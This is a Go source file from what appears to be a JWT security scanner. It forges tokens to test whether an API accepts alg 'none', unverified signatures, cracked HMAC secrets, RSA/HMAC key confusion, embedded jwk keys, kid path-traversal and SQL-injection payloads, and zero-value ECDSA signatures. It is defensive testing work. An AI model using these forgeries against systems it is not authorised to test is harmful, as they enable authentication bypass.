package scan

import (
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"maps"
	"slices"
	"sort"
	"strings"

	jose "github.com/go-jose/go-jose/v4"

	"github.com/credshield/credshield/internal/scan/crack"
)

// tokenCheckIDs are the checks that need an access token.
var tokenCheckIDs = []string{JWTAlgNone, JWTSigNotVerified, JWTWeakSecret, JWTKeyConfusion, JWTEmbeddedJWK,
	JWTKidInjection, JWTPsychicSignature, JWTExpiredAccepted, JWTClaimNotChecked, JWTNoExpiry, JWTLongLifetime,
	JWTSymmetricAlg, JWTNotSenderBound}

// forgeCheckIDs are the token checks decided by sending tokens: their
// negative verdicts need a working session to mean anything.
var forgeCheckIDs = []string{JWTSigNotVerified, JWTAlgNone, JWTWeakSecret, JWTKeyConfusion, JWTEmbeddedJWK,
	JWTKidInjection, JWTPsychicSignature, JWTExpiredAccepted, JWTClaimNotChecked}

// class is what distinguishes answers at the protected URL: the status and
// the top-level members of a JSON body.
type class struct {
	status int
	keys   string
}

func classify(r *response) class {
	c := class{status: r.status}
	var m map[string]json.RawMessage
	if json.Unmarshal(r.body, &m) == nil {
		ks := slices.Sorted(maps.Keys(m))
		c.keys = strings.Join(ks, ",")
	}
	return c
}

// forger mints a token with the given claims through a proven weakness.
type forger func(claims map[string]any) string

// variant is one way to forge a token for a check.
type variant struct {
	name  string
	forge forger
}

// tokenState is what the token checks share.
type tokenState struct {
	valid, garbage class
	baseline       []*response // no token, garbage, valid
	forge          forger      // first proven way to forge, for the claim checks
	forgeBy        string
	keys           []publicKey // the published JWKS, once fetched
	cracked        []byte      // the recovered HMAC secret, if any
}

// inspectToken reports what the token itself shows, without a request.
func (s *scanner) inspectToken() {
	c := s.token.claims
	exp, hasExp := number(c, "exp")
	iat, hasIat := number(c, "iat")
	switch {
	case !hasExp:
		s.add(JWTNoExpiry, "the access token the API issued has no exp claim: "+truncate(claimsJSON(c), 300))
	default:
		life := exp - float64(s.now().Unix())
		from := "from now"
		if hasIat {
			life, from = exp-iat, "from iat to exp"
		}
		if life > 3600+60 {
			s.add(JWTLongLifetime, fmt.Sprintf("the access token is valid for %.1f h (%s)", life/3600, from))
		}
	}
	if alg := s.token.alg(); strings.HasPrefix(alg, "HS") {
		s.add(JWTSymmetricAlg, "the access token is signed with "+alg+", a shared HMAC secret")
	}
	if _, bound := c["cnf"]; !bound && !strings.EqualFold(s.tokenType, "DPoP") {
		s.add(JWTNotSenderBound, fmt.Sprintf("the access token (token_type %q) has no cnf claim: it is a bearer token", s.tokenType))
	}
}

// tokenChecks runs every check that sends tokens to the protected URL.
func (s *scanner) tokenChecks(ctx context.Context) error {
	s.c.reserve = 1 // for the session check at the end
	st := &tokenState{}
	if err := s.baselines(ctx, st); err != nil {
		if ctx.Err() != nil {
			return ctx.Err()
		}
		for _, id := range forgeCheckIDs {
			s.inconclusive(id, err.Error())
		}
		s.c.reserve = 0
		return nil
	}
	type check struct {
		id  string
		run func(context.Context, *tokenState) (string, error)
	}
	checks := []check{
		{JWTSigNotVerified, s.checkSignatureNotVerified},
		{JWTAlgNone, s.checkAlgNone},
		{JWTWeakSecret, s.checkWeakSecret},
		{JWTKeyConfusion, s.checkKeyConfusion},
		{JWTEmbeddedJWK, s.checkEmbeddedJWK},
		{JWTKidInjection, s.checkKidInjection},
		{JWTPsychicSignature, s.checkPsychic},
	}
	for _, ch := range checks {
		if ch.id != JWTSigNotVerified && ch.id != JWTWeakSecret && s.rep.Has(JWTSigNotVerified) {
			continue // every forgery "works" when nothing is verified: nothing more to learn
		}
		s.c.setProbe(ch.id)
		if _, err := ch.run(ctx, st); err != nil {
			if err := s.undecided(ctx, ch.id, err); err != nil {
				return err
			}
		}
	}
	if st.forge != nil {
		s.c.setProbe("token claims")
		if err := s.claimChecks(ctx, st); err != nil {
			if err := s.undecided(ctx, JWTExpiredAccepted, err); err != nil {
				return err
			}
			s.inconclusive(JWTClaimNotChecked, "request budget spent")
		}
	} else {
		s.rep.Discovery.Notes = append(s.rep.Discovery.Notes,
			"no way to forge tokens was found, so the claim checks (expired, not yet valid, missing exp, wrong iss/aud) had nothing to send")
	}
	return s.sessionCheck(ctx, st)
}

// baselines takes the three reference answers every forged token is
// judged against.
func (s *scanner) baselines(ctx context.Context, st *tokenState) error {
	s.c.setProbe("token baselines")
	u := s.rep.Discovery.ProtectedURL
	none, err := s.c.get(ctx, u, nil)
	if err != nil {
		return fmt.Errorf("baseline without a token: %w", err)
	}
	garbageTok := segment(map[string]any{"alg": "HS256", "typ": "JWT"}) + "." + b64.EncodeToString([]byte(`{"sub":"`+s.nonce(8)+`"}`)) + "." + b64.EncodeToString([]byte(s.nonce(32)))
	garbage, err := s.bearer(ctx, garbageTok)
	if err != nil {
		return fmt.Errorf("baseline with a garbage token: %w", err)
	}
	valid, err := s.bearer(ctx, s.token.raw)
	if err != nil {
		return fmt.Errorf("baseline with the valid token: %w", err)
	}
	st.valid, st.garbage, st.baseline = classify(valid), classify(garbage), []*response{none, garbage, valid}
	switch {
	case valid.status/100 != 2:
		return fmt.Errorf("the valid token is answered %d at %s: pass --protected-url", valid.status, u)
	case st.valid == st.garbage:
		return fmt.Errorf("a garbage token is answered like the valid one (%d) at %s: pass --protected-url", valid.status, u)
	}
	return nil
}

func (s *scanner) bearer(ctx context.Context, tok string) (*response, error) {
	return s.c.get(ctx, s.rep.Discovery.ProtectedURL, map[string]string{"Authorization": "Bearer " + tok})
}

// accepted sends tok and reports whether it is answered like the valid
// token and unlike the garbage one, twice in a row.
func (s *scanner) accepted(ctx context.Context, st *tokenState, tok string) (bool, []*response, error) {
	var rs []*response
	for range 2 {
		r, err := s.bearer(ctx, tok)
		if err != nil {
			return false, rs, err
		}
		rs = append(rs, r)
		if c := classify(r); c != st.valid || c == st.garbage {
			return false, rs, nil
		}
	}
	return true, rs, nil
}

// tryVariants sends each variant's token (with the scanner's own, tweaked
// claims) until one is accepted, and records the finding.
func (s *scanner) tryVariants(ctx context.Context, st *tokenState, id string, vs []variant, detail string) (string, error) {
	claims := s.tweak(s.token.claims)
	for _, v := range vs {
		tok := v.forge(claims)
		ok, rs, err := s.accepted(ctx, st, tok)
		if err != nil {
			return "", err
		}
		if !ok {
			continue
		}
		summary := fmt.Sprintf("%s: accepted twice at %s (%d, like the valid token; a garbage token gets %d)",
			v.name, s.rep.Discovery.ProtectedURL, rs[0].status, st.baseline[1].status)
		if detail != "" {
			summary += "; " + detail
		}
		s.add(id, summary, exchanges(append([]*response{st.baseline[1]}, rs...)...)...)
		if st.forge == nil {
			st.forge, st.forgeBy = v.forge, id
		}
		return v.name, nil
	}
	return "", nil
}

// tweak returns a copy of the scanner's own claims changed just enough
// that an accepted token cannot be a replay of the real one: iat moved
// back a second, or a fresh jti. The subject is never changed.
func (s *scanner) tweak(c map[string]any) map[string]any {
	out := maps.Clone(c)
	if iat, ok := number(c, "iat"); ok {
		out["iat"] = int64(iat) - 1
	} else {
		out["jti"] = "csscan-" + s.nonce(8)
	}
	return out
}

func (s *scanner) headerSegment() string { return strings.SplitN(s.token.raw, ".", 2)[0] }

func (s *scanner) checkSignatureNotVerified(ctx context.Context, st *tokenState) (string, error) {
	hdr, sig := s.headerSegment(), b64.EncodeToString(s.token.sig)
	return s.tryVariants(ctx, st, JWTSigNotVerified, []variant{
		{"a token whose payload was changed but whose signature was kept", func(c map[string]any) string { return hdr + "." + segment(c) + "." + sig }},
		{"a token with its signature removed", func(c map[string]any) string { return hdr + "." + segment(c) + "." }},
	}, "")
}

func (s *scanner) checkAlgNone(ctx context.Context, st *tokenState) (string, error) {
	var vs []variant
	for _, alg := range []string{"none", "None", "NONE", "nOnE"} {
		h := withHeader(s.token.header, "alg", alg)
		vs = append(vs, variant{fmt.Sprintf("an unsigned token with alg %q", alg), func(c map[string]any) string { return signingInput(h, c) + "." }})
	}
	return s.tryVariants(ctx, st, JWTAlgNone, vs, "")
}

func (s *scanner) checkWeakSecret(ctx context.Context, st *tokenState) (string, error) {
	target, err := crack.NewTarget(s.token.raw)
	if err != nil {
		return "", nil // not HMAC-signed: nothing to guess
	}
	s.c.setProbe("offline secret search")
	src := crack.Known()
	if s.opts.Wordlist != nil {
		src = io.MultiReader(src, strings.NewReader("\n"), s.opts.Wordlist)
	}
	res, err := crack.Crack(ctx, target, src, s.opts.Workers)
	if err != nil {
		return "", fmt.Errorf("offline secret search: %w", err)
	}
	s.rep.Crack = &CrackStats{Alg: target.Alg(), Candidates: res.Tried, GuessesPerSec: res.Rate(), SecretRecovered: res.Found}
	if !res.Found {
		return "", nil
	}
	secret := res.Secret
	st.cracked = secret
	detail := fmt.Sprintf("the secret %s was recovered offline from the scanner's own token after %d guesses (%.0f guesses/s)",
		redactSecret(secret), res.Tried, res.Rate())
	h := s.token.header
	s.c.setProbe(JWTWeakSecret)
	name, err := s.tryVariants(ctx, st, JWTWeakSecret, []variant{
		{"a token signed with the recovered secret", func(c map[string]any) string { return hmacToken(h, c, secret) }},
	}, detail)
	if err == nil && name == "" {
		s.inconclusive(JWTWeakSecret, "the secret was recovered offline, but a token signed with it was not accepted")
	}
	return name, err
}

// redactSecret shows a recovered secret's first two characters and its
// length: enough to find it in source, not enough to use it.
func redactSecret(b []byte) string {
	if len(b) == 0 {
		return "(the empty string)"
	}
	r := []rune(string(b))
	if len(r) <= 4 {
		return fmt.Sprintf("%q…(redacted, %d characters)", string(r[:1]), len(r))
	}
	return fmt.Sprintf("%q…(redacted, %d characters)", string(r[:2]), len(r))
}

// publicKey is one key of the published JWKS.
type publicKey struct {
	kid string
	alg string
	pub crypto.PublicKey
	raw json.RawMessage
}

// jwksKeys fetches and parses the published keys (once).
func (s *scanner) jwksKeys(ctx context.Context, st *tokenState) ([]publicKey, error) {
	body, err := s.findJWKS(ctx)
	if err != nil || body == nil {
		return nil, err
	}
	var set struct {
		Keys []json.RawMessage `json:"keys"`
	}
	if json.Unmarshal(body, &set) != nil {
		return nil, nil
	}
	var out []publicKey
	for _, raw := range set.Keys {
		var k jose.JSONWebKey
		if k.UnmarshalJSON(raw) != nil || !k.IsPublic() {
			continue
		}
		out = append(out, publicKey{kid: k.KeyID, alg: k.Algorithm, pub: k.Key, raw: raw})
	}
	// The key that signed the scanner's token first.
	kid := s.token.kid()
	sort.SliceStable(out, func(i, j int) bool { return out[i].kid == kid && out[j].kid != kid })
	return out, nil
}

func (s *scanner) checkKeyConfusion(ctx context.Context, st *tokenState) (string, error) {
	keys, err := s.jwksKeys(ctx, st)
	if err != nil {
		return "", err
	}
	st.keys = keys
	var vs []variant
	for _, k := range keys[:min(len(keys), 2)] {
		kid := k.kid
		if kid == "" {
			kid = s.token.kid()
		}
		h := withHeader(s.token.header, "alg", "HS256", "kid", nilIfEmpty(kid))
		for _, sec := range confusionSecrets(k) {
			vs = append(vs, variant{fmt.Sprintf("an HS256 token whose HMAC key is the published key %q as %s", k.kid, sec.form),
				func(c map[string]any) string { return hmacToken(h, c, sec.key) }})
		}
	}
	return s.tryVariants(ctx, st, JWTKeyConfusion, vs, "")
}

func nilIfEmpty(s string) any {
	if s == "" {
		return nil
	}
	return s
}

type confusionSecret struct {
	form string
	key  []byte
}

// confusionSecrets lists the byte forms of a public key that vulnerable
// verifiers have been seen to use as an HMAC secret.
func confusionSecrets(k publicKey) []confusionSecret {
	var out []confusionSecret
	if der, err := x509.MarshalPKIXPublicKey(k.pub); err == nil {
		p := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
		out = append(out, confusionSecret{"PEM (SubjectPublicKeyInfo)", p},
			confusionSecret{"PEM without the final newline", p[:len(p)-1]})
	}
	if rk, ok := k.pub.(*rsa.PublicKey); ok {
		out = append(out, confusionSecret{"PEM (PKCS #1)", pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: x509.MarshalPKCS1PublicKey(rk)})})
	}
	out = append(out, confusionSecret{"JWK as published", k.raw})
	if b, err := json.Marshal(k.raw); err == nil && string(b) != string(k.raw) { // Marshal compacts
		out = append(out, confusionSecret{"JWK (compact JSON)", b})
	}
	return out
}

func (s *scanner) checkEmbeddedJWK(ctx context.Context, st *tokenState) (string, error) {
	alg := "ES256"
	switch a := s.token.alg(); {
	case a == "EdDSA":
		alg = "EdDSA"
	case strings.HasPrefix(a, "RS") || strings.HasPrefix(a, "PS"):
		alg = "RS256"
	}
	priv, err := s.ownKey(alg)
	if err != nil {
		return "", err
	}
	jwk := jose.JSONWebKey{Key: priv.Public(), Algorithm: alg, Use: "sig"}
	jb, err := jwk.MarshalJSON()
	if err != nil {
		return "", fmt.Errorf("embedded jwk: %w", err)
	}
	var jm map[string]any
	if err := json.Unmarshal(jb, &jm); err != nil {
		return "", fmt.Errorf("embedded jwk: %w", err)
	}
	tp, err := jwk.Thumbprint(crypto.SHA256)
	if err != nil {
		return "", fmt.Errorf("embedded jwk: %w", err)
	}
	var vs []variant
	for _, h := range []map[string]any{
		withHeader(s.token.header, "alg", alg, "kid", nil, "jwk", jm),
		withHeader(s.token.header, "alg", alg, "kid", b64.EncodeToString(tp), "jwk", jm),
	} {
		name := fmt.Sprintf("a %s token signed with the scanner's own key, carried in the jwk header", alg)
		if _, ok := h["kid"]; ok {
			name += " (kid: its thumbprint)"
		}
		vs = append(vs, variant{name, func(c map[string]any) string {
			tok, err := signAsym(alg, priv, s.rand, signingInput(h, c))
			if err != nil {
				return "invalid"
			}
			return tok
		}})
	}
	return s.tryVariants(ctx, st, JWTEmbeddedJWK, vs, "")
}

// ownKey generates the scanner's throwaway signing key for alg.
func (s *scanner) ownKey(alg string) (crypto.Signer, error) {
	switch alg {
	case "EdDSA":
		_, k, err := ed25519.GenerateKey(s.rand)
		return k, err
	case "RS256":
		return rsa.GenerateKey(s.rand, 2048)
	default:
		return ecdsa.GenerateKey(elliptic.P256(), s.rand)
	}
}

// signAsym signs input and returns the compact token.
func signAsym(alg string, priv crypto.Signer, rand io.Reader, input string) (string, error) {
	var sig []byte
	switch k := priv.(type) {
	case ed25519.PrivateKey:
		sig = ed25519.Sign(k, []byte(input))
	case *rsa.PrivateKey:
		d := sha256.Sum256([]byte(input))
		var err error
		if sig, err = rsa.SignPKCS1v15(nil, k, crypto.SHA256, d[:]); err != nil {
			return "", err
		}
	case *ecdsa.PrivateKey:
		d := sha256.Sum256([]byte(input))
		r, ss, err := ecdsa.Sign(rand, k, d[:])
		if err != nil {
			return "", err
		}
		sig = make([]byte, 64)
		r.FillBytes(sig[:32])
		ss.FillBytes(sig[32:])
	default:
		return "", errors.New("unsupported key")
	}
	return input + "." + b64.EncodeToString(sig), nil
}

func (s *scanner) checkKidInjection(ctx context.Context, st *tokenState) (string, error) {
	cands := []struct{ kid, key, what string }{
		{"../../../../../../../../../../../../dev/null", "", "a kid that walks to /dev/null, signed with the empty key"},
		{"/dev/null", "", "a kid of /dev/null, signed with the empty key"},
		{"csscan' UNION SELECT 'credshield-scan' -- ", "credshield-scan", "a kid carrying SQL that selects a chosen key"},
	}
	var vs []variant
	for _, cd := range cands {
		if st.cracked != nil && string(st.cracked) == cd.key {
			continue // the real secret would make this pass for the wrong reason
		}
		h := withHeader(s.token.header, "alg", "HS256", "kid", cd.kid)
		key := []byte(cd.key)
		vs = append(vs, variant{cd.what, func(c map[string]any) string { return hmacToken(h, c, key) }})
	}
	return s.tryVariants(ctx, st, JWTKidInjection, vs, "")
}

func (s *scanner) checkPsychic(ctx context.Context, st *tokenState) (string, error) {
	type cand struct{ alg, kid string }
	var cs []cand
	if a := s.token.alg(); strings.HasPrefix(a, "ES") {
		cs = append(cs, cand{a, s.token.kid()})
	}
	for _, k := range st.keys {
		if ek, ok := k.pub.(*ecdsa.PublicKey); ok && len(cs) < 2 {
			alg := map[string]string{"P-256": "ES256", "P-384": "ES384", "P-521": "ES512"}[ek.Curve.Params().Name]
			if alg != "" && !slices.Contains(cs, cand{alg, k.kid}) {
				cs = append(cs, cand{alg, k.kid})
			}
		}
	}
	var vs []variant
	for _, cd := range cs {
		size := map[string]int{"ES256": 64, "ES384": 96, "ES512": 132}[cd.alg]
		h := withHeader(s.token.header, "alg", cd.alg, "kid", nilIfEmpty(cd.kid))
		zero := b64.EncodeToString(make([]byte, size))
		vs = append(vs, variant{fmt.Sprintf("an %s token whose signature is r = s = 0", cd.alg), func(c map[string]any) string {
			return signingInput(h, c) + "." + zero
		}})
	}
	return s.tryVariants(ctx, st, JWTPsychicSignature, vs, "")
}

// claimChecks uses a proven forgery to learn which claims the server
// checks.
func (s *scanner) claimChecks(ctx context.Context, st *tokenState) error {
	now := s.now().Unix()
	_, hasIat := s.token.claims["iat"]
	_, hasNbf := s.token.claims["nbf"]
	_, hasExp := s.token.claims["exp"]
	type test struct {
		id, what string
		mutate   func(c map[string]any)
	}
	tests := []test{
		{JWTExpiredAccepted, "exp an hour in the past", func(c map[string]any) {
			c["exp"] = now - 3600
			if hasIat {
				c["iat"] = now - 7200
			}
			if hasNbf {
				c["nbf"] = now - 7200
			}
		}},
		{JWTClaimNotChecked, "nbf an hour in the future", func(c map[string]any) { c["nbf"] = now + 3600 }},
	}
	if hasExp {
		tests = append(tests, test{JWTNoExpiry, "no exp claim", func(c map[string]any) { delete(c, "exp") }})
	}
	if _, ok := s.token.claims["iss"]; ok {
		tests = append(tests, test{JWTClaimNotChecked, "another issuer", func(c map[string]any) { c["iss"] = "https://credshield-scan.invalid" }})
	}
	if aud, ok := s.token.claims["aud"]; ok {
		tests = append(tests, test{JWTClaimNotChecked, "another audience", func(c map[string]any) {
			if _, isList := aud.([]any); isList {
				c["aud"] = []any{"https://credshield-scan.invalid"}
			} else {
				c["aud"] = "https://credshield-scan.invalid"
			}
		}})
	}
	var notChecked []string
	var notCheckedEx []*response
	for _, t := range tests {
		c := s.tweak(s.token.claims)
		t.mutate(c)
		ok, rs, err := s.accepted(ctx, st, st.forge(c))
		if err != nil {
			return err
		}
		if !ok {
			continue
		}
		msg := fmt.Sprintf("a token forged through %s with %s was accepted twice (%d)", st.forgeBy, t.what, rs[0].status)
		if t.id == JWTClaimNotChecked {
			notChecked = append(notChecked, t.what)
			notCheckedEx = append(notCheckedEx, rs[0])
			continue
		}
		s.add(t.id, msg, exchanges(rs...)...)
	}
	if len(notChecked) > 0 {
		s.add(JWTClaimNotChecked, fmt.Sprintf("tokens forged through %s were accepted with: %s", st.forgeBy, strings.Join(notChecked, "; ")),
			exchanges(notCheckedEx...)...)
	}
	return nil
}

// sessionCheck confirms the valid token still works. If it does not, the
// target changed its mind about the scanner mid-scan (revocation, a block),
// and a rejected forgery proves nothing.
func (s *scanner) sessionCheck(ctx context.Context, st *tokenState) error {
	s.c.reserve = 0
	s.c.setProbe("session check")
	r, err := s.bearer(ctx, s.token.raw)
	if err == nil && classify(r) == st.valid {
		return nil
	}
	if ctx.Err() != nil {
		return ctx.Err()
	}
	reason := "the valid token no longer works after the token probes"
	if err != nil {
		reason += ": " + err.Error()
	} else {
		reason += fmt.Sprintf(" (answered %d)", r.status)
	}
	for _, id := range forgeCheckIDs {
		if !s.rep.Has(id) {
			s.inconclusive(id, reason)
		}
	}
	return nil
}
